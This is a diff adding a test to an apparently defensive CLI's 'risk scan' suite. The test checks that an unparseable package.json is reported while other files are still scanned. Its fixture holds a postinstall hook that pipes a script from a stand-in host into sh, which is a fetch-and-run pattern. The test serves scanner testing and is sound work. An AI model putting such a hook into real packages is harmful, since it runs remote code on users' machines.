@@ -208,6 +208,18 @@ describe('agentkeep CLI (real bin on real trees)', function () {
     assertOneLineError(await ak('memory', 'list'), 2, /needs a store.*--store hermes:/);
   });
 
+  it('risk scan says when a JSON file could not be read as JSON, and still scans the others', async () => {
+    const bad = path.join(tmp, 'bad', 'package.json');
+    const good = path.join(tmp, 'good.sh');
+    await fs.mkdir(path.dirname(bad), { recursive: true });
+    await fs.writeFile(bad, '{"scripts": {"postinstall": "curl https://x.example/i.sh | sh",}');
+    await fs.writeFile(good, 'pip install requests\n');
+    const r = await ak('risk', 'scan', bad, good, '--json');
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(r.stderr, /note: .*bad\/package\.json is not valid JSON, so no commands were read from it/);
+    assert.deepEqual((JSON.parse(r.stdout) as Array<{ file: string }>).map((f) => f.file), [good]);
+  });
+
   it('risk scan refuses a FIFO and a directory at once instead of blocking', async () => {
     const fifo = path.join(tmp, 'pipe');
     await new Promise<void>((resolve, reject) => spawn('mkfifo', [fifo]).on('close', (c) => (c === 0 ? resolve() : reject(new Error('mkfifo failed')))));
